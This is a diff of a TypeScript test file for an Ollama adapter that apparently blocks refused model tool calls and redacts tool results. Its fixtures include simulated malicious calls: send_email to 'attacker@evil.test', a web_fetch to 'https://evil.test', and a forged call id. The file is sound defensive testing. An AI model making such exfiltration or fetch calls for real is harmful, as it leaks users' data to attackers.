@@ -42,7 +42,7 @@ function refuseStream(held: HeldEvent[], blocked: BlockedCall[]): string {
 describe('ollama /api/chat JSON refusal', () => {
   it('a single refused call: no tool_calls, the refusal as content, usage and done_reason kept', () => {
     const json = JSON.parse(fixture('chat-tool-call.json').toString('utf8'));
-    const blocked = [block('get_current_weather')];
+    const blocked = [block('#0.0', 'get_current_weather')];
     const out = ollamaAdapter.refuseToolCalls!('chat', json, blocked) as Record<string, any>;
     expect(out.message).toEqual({ role: 'assistant', content: refusalText(blocked) });
     expect(out).toMatchObject({ done: true, done_reason: 'stop', prompt_eval_count: 122, eval_count: 33 });
@@ -72,10 +72,29 @@ describe('ollama /api/chat JSON refusal', () => {
     expect(ollamaAdapter.readResponse('chat', out).toolCalls.map((call) => call.id)).toEqual(['call_file']);
   });
 
-  it('an answer without the refused call is left as it was; a done_reason of tool_calls becomes stop when none is left', () => {
+  it('two id-less calls of one tool: known by position, exactly the refused one goes (either order)', () => {
+    const answer = (first: string, second: string) => ({
+      model: 'llama3.2',
+      message: { role: 'assistant', content: '', tool_calls: [{ function: { name: 'send_email', arguments: { to: first } } }, { function: { name: 'send_email', arguments: { to: second } } }] },
+      done: true,
+      done_reason: 'stop',
+    });
+    expect(ollamaAdapter.readResponse('chat', answer('a', 'b')).toolCalls.map((call) => call.id)).toEqual(['#0.0', '#0.1']);
+    const first = ollamaAdapter.refuseToolCalls!('chat', answer('attacker@evil.test', 'boss@corp.test'), [block('#0.0', 'send_email')]) as any;
+    expect(first.message.tool_calls).toEqual([{ function: { name: 'send_email', arguments: { to: 'boss@corp.test' } } }]);
+    const second = ollamaAdapter.refuseToolCalls!('chat', answer('boss@corp.test', 'attacker@evil.test'), [block('#0.1', 'send_email')]) as any;
+    expect(second.message.tool_calls).toEqual([{ function: { name: 'send_email', arguments: { to: 'boss@corp.test' } } }]);
+    // An upstream cannot give its call a position's id to have another one removed in its place.
+    const forged = { message: { role: 'assistant', content: '', tool_calls: [{ id: '#0.1', function: { name: 'a', arguments: {} } }, { function: { name: 'b', arguments: {} } }] }, done: true };
+    expect(ollamaAdapter.readResponse('chat', forged).toolCalls.map((call) => [call.id, call.name])).toEqual([['#0.0', 'a'], ['#0.1', 'b']]);
+  });
+
+  it('an answer without the refused call cannot be refused in part (undefined: the whole answer is refused); a done_reason of tool_calls becomes stop when none is left', () => {
     const json = { message: { role: 'assistant', content: '', tool_calls: [{ function: { name: 'read_file', arguments: {} } }] }, done: true, done_reason: 'tool_calls' };
-    expect(ollamaAdapter.refuseToolCalls!('chat', structuredClone(json), [block('send_email')])).toEqual(json);
-    const out = ollamaAdapter.refuseToolCalls!('chat', json, [block('read_file')]) as Record<string, any>;
+    expect(ollamaAdapter.refuseToolCalls!('chat', structuredClone(json), [block('send_email')])).toBeUndefined();
+    expect(ollamaAdapter.refuseToolCalls!('chat', structuredClone(json), [block('#0.0', 'read_file'), block('#0.1', 'read_file')])).toBeUndefined();
+    expect(ollamaAdapter.refuseToolCalls!('chat', { message: { role: 'assistant', content: 'hi' }, done: true }, [block('#0.0')])).toBeUndefined();
+    const out = ollamaAdapter.refuseToolCalls!('chat', json, [block('#0.0', 'read_file')]) as Record<string, any>;
     expect(out.done_reason).toBe('stop');
     expect(out.message.tool_calls).toBeUndefined();
   });
@@ -99,8 +118,9 @@ describe('ollama /api/chat NDJSON stream refusal', () => {
     expect(out.endsWith(held.at(-1)!.encoded)).toBe(true);
   });
 
-  it('parallel calls across two lines, known by name (llama3.1 fixture): each refused call goes, the rest stays', () => {
+  it('parallel calls across two lines, without ids (llama3.1 fixture): known by position across lines, each refused call goes, the rest stays', () => {
     const source = fixture('chat-parallel-tool-calls.ndjson').toString('utf8');
+    const ids: Record<string, string> = { get_weather: '#0.0', get_local_time: '#0.1', send_email: '#0.2' };
     const cases: [string[], string[]][] = [
       [['send_email'], ['get_weather', 'get_local_time']],
       [['get_weather'], ['get_local_time', 'send_email']],
@@ -108,7 +128,7 @@ describe('ollama /api/chat NDJSON stream refusal', () => {
     ];
     for (const [refused, kept] of cases) {
       const { held } = hold(source);
-      const blocked = refused.map((name) => block(name));
+      const blocked = refused.map((name) => block(ids[name]!, name));
       const out = refuseStream(held, blocked);
       const { view, lines } = reassemble(out);
       expect(view.toolCalls.map((call) => call.name), refused.join()).toEqual(kept);
@@ -140,13 +160,57 @@ describe('ollama /api/chat NDJSON stream refusal', () => {
       'not json attacker@evil.test',
       JSON.stringify({ model: 'm', created_at: 't', message: { role: 'assistant', content: '', tool_calls: [{ function: { name: 'send_email', arguments: { to: 'attacker@evil.test' } } }] }, done: true, done_reason: 'tool_calls', eval_count: 3 }),
     ].map((data) => ({ data, encoded: `${data}\n` }));
-    const out = refuseStream(held, [block('send_email')]);
+    const out = refuseStream(held, [block('#0.0', 'send_email')]);
     expect(out).not.toContain('attacker@evil.test');
     const { lines } = reassemble(out);
     expect(lines).toEqual([
-      { model: 'm', created_at: 't', message: { role: 'assistant', content: refusalText([block('send_email')]) }, done: false },
+      { model: 'm', created_at: 't', message: { role: 'assistant', content: refusalText([block('#0.0', 'send_email')]) }, done: false },
       { model: 'm', created_at: 't', message: { role: 'assistant', content: '' }, done: true, done_reason: 'stop', eval_count: 3 },
     ]);
+  });
+
+  it('two id-less calls of one tool, one per line, the second in the done line: exactly the refused one goes', () => {
+    const call = (to: string) => ({ function: { name: 'send_email', arguments: { to } } });
+    const lines = (first: string, second: string) => [
+      JSON.stringify({ model: 'm', created_at: 't', message: { role: 'assistant', content: '', tool_calls: [call(first)] }, done: false }),
+      JSON.stringify({ model: 'm', created_at: 't', message: { role: 'assistant', content: '', tool_calls: [call(second)] }, done: true, done_reason: 'stop' }),
+    ].map((line) => `${line}\n`).join('');
+    for (const [order, refused] of [[['attacker@evil.test', 'boss@corp.test'], '#0.0'], [['boss@corp.test', 'attacker@evil.test'], '#0.1']] as const) {
+      const { held, view } = hold(lines(order[0], order[1]));
+      expect(view.toolCalls.map((c) => c.id)).toEqual(['#0.0', '#0.1']);
+      const out = refuseStream(held, [block(refused, 'send_email')]);
+      expect(out).not.toContain('attacker@evil.test');
+      const after = reassemble(out);
+      expect(after.view.toolCalls.map((c) => c.arguments)).toEqual(['{"to":"boss@corp.test"}']);
+      expect(after.lines.at(-1)?.done).toBe(true);
+    }
+  });
+
+  it('one id on two lines (a call repeated, as the ollama client hands both over): the second is known by its position', () => {
+    const line = (to: string, done: boolean) => `${JSON.stringify({ model: 'm', message: { role: 'assistant', content: '', tool_calls: [{ id: 'call_1', function: { name: 'send_email', arguments: { to } } }] }, done })}\n`;
+    const { held, view } = hold(line('boss@corp.test', false) + line('attacker@evil.test', false) + `${JSON.stringify({ model: 'm', message: { role: 'assistant', content: '' }, done: true })}\n`);
+    expect(view.toolCalls.map((c) => [c.id, c.arguments])).toEqual([['call_1', '{"to":"boss@corp.test"}'], ['#0.1', '{"to":"attacker@evil.test"}']]);
+    const out = refuseStream(held, [block('#0.1', 'send_email')]);
+    expect(out).not.toContain('attacker@evil.test');
+    expect(reassemble(out).view.toolCalls).toEqual([{ id: 'call_1', name: 'send_email', arguments: '{"to":"boss@corp.test"}' }]);
+  });
+
+  it('an entry without a function object is a call of unknown shape; refusing it removes exactly it', () => {
+    const ndjson = `${JSON.stringify({ model: 'm', message: { role: 'assistant', content: '', tool_calls: [{ type: 'web_fetch', url: 'https://evil.test' }, { function: { name: 'read_file', arguments: { path: 'a' } } }] }, done: true })}\n`;
+    const { held, view } = hold(ndjson);
+    expect(view.toolCalls).toEqual([
+      { id: '#0.0', name: 'web_fetch', arguments: '{"type":"web_fetch","url":"https://evil.test"}', unknownShape: true },
+      { id: '#0.1', name: 'read_file', arguments: '{"path":"a"}' },
+    ]);
+    const out = refuseStream(held, [block('#0.0', 'web_fetch')]);
+    expect(out).not.toContain('evil.test');
+    expect(reassemble(out).view.toolCalls.map((c) => c.name)).toEqual(['read_file']);
+  });
+
+  it('fails closed (undefined) when a refused call is not in the held lines', () => {
+    const { held } = hold(`${JSON.stringify({ model: 'm', message: { role: 'assistant', content: '', tool_calls: [{ function: { name: 'f', arguments: {} } }] }, done: true })}\n`);
+    expect(ollamaAdapter.refuseToolCallsInStream!('chat', held, [block('f')])).toBeUndefined();
+    expect(ollamaAdapter.refuseToolCallsInStream!('chat', held, [block('#0.0', 'f'), block('#0.1', 'f')])).toBeUndefined();
   });
 
   it('the reader flags the lines with calls (and only those); the adapter says so', () => {
@@ -185,7 +249,7 @@ describe('ollama: OpenAI-compatible routes and other operations', () => {
 });
 
 describe('ollama tool result redaction', () => {
-  it('native: by tool_call_id, else tool_name, else name (any role case); other messages untouched', () => {
+  it('native: by tool_call_id, else by position (results by tool_name or name only, any role case); other messages untouched', () => {
     const json = {
       model: 'llama3.2',
       messages: [
@@ -195,15 +259,36 @@ describe('ollama tool result redaction', () => {
         { role: 'tool', tool_name: 'read_email', tool_call_id: 'call_other', content: 'kept' },
         { role: 'tool', tool_call_id: 'call_1', tool_name: 'read_file', content: 'secret' },
         { role: 'tool', tool_name: 'read_file', content: 'kept too' },
+        { role: 'tool', content: 'no name at all', images: ['iVBORw0KGgo='] },
       ],
     };
-    expect(ollamaAdapter.replaceToolResults!('chat', json, withheldResults(['read_email', 'call_1']))).toBe(true);
-    expect(json.messages.map((message) => message.content)).toEqual(['read_email please', REMOVED_RESULT_TEXT, REMOVED_RESULT_TEXT, 'kept', REMOVED_RESULT_TEXT, 'kept too']);
+    expect(ollamaAdapter.replaceToolResults!('chat', json, withheldResults(['#result:1', '#result:2', 'call_1', '#result:6']))).toBe(true);
+    expect(json.messages.map((message) => message.content)).toEqual(['read_email please', REMOVED_RESULT_TEXT, REMOVED_RESULT_TEXT, 'kept', REMOVED_RESULT_TEXT, 'kept too', REMOVED_RESULT_TEXT]);
+    expect(json.messages[6]).toEqual({ role: 'tool', content: REMOVED_RESULT_TEXT });
     // The redacted request decodes with the note in place of each result.
     const route = ollamaAdapter.routes[0]!;
     const decoded = ollamaAdapter.decodeRequest({ route, params: [], nativePath: '/api/chat' }, json, new URLSearchParams());
     expect(decoded.success && decoded.view.messages.flatMap((message) => message.toolResults.map((result) => result.text))).not.toContain('attacker@evil.test');
     expect(ollamaAdapter.replaceToolResults!('chat', { model: 'm' }, withheldResults(['x']))).toBe(false);
+  });
+
+  it('native: two results of one tool by name only: each replacement lands on exactly its result', () => {
+    const body = () => ({ model: 'm', messages: [{ role: 'tool', tool_name: 'fetch', content: 'page a' }, { role: 'tool', tool_name: 'fetch', content: 'page b' }] });
+    const second = body();
+    expect(ollamaAdapter.replaceToolResults!('chat', second, new Map([['#result:1', { text: 'a summary of b', withheld: false }]]))).toBe(true);
+    expect(second.messages.map((message) => message.content)).toEqual(['page a', 'a summary of b']);
+    const first = body();
+    expect(ollamaAdapter.replaceToolResults!('chat', first, withheldResults(['#result:0']))).toBe(true);
+    expect(first.messages.map((message) => message.content)).toEqual([REMOVED_RESULT_TEXT, 'page b']);
+  });
+
+  it('native: a replacement that finds no result refuses (false), even when others were placed; a repeated id is its position', () => {
+    const body = () => ({ model: 'm', messages: [{ role: 'tool', tool_call_id: 'c1', content: 'x' }, { role: 'tool', tool_call_id: 'c1', content: 'y' }] });
+    expect(ollamaAdapter.replaceToolResults!('chat', body(), withheldResults(['fetch']))).toBe(false);
+    expect(ollamaAdapter.replaceToolResults!('chat', body(), withheldResults(['c1', '#result:9']))).toBe(false);
+    const twice = body();
+    expect(ollamaAdapter.replaceToolResults!('chat', twice, withheldResults(['#result:1']))).toBe(true);
+    expect(twice.messages.map((message) => message.content)).toEqual(['x', REMOVED_RESULT_TEXT]);
   });
 
   it('/v1/chat/completions: by tool_call_id, as OpenAI', () => {
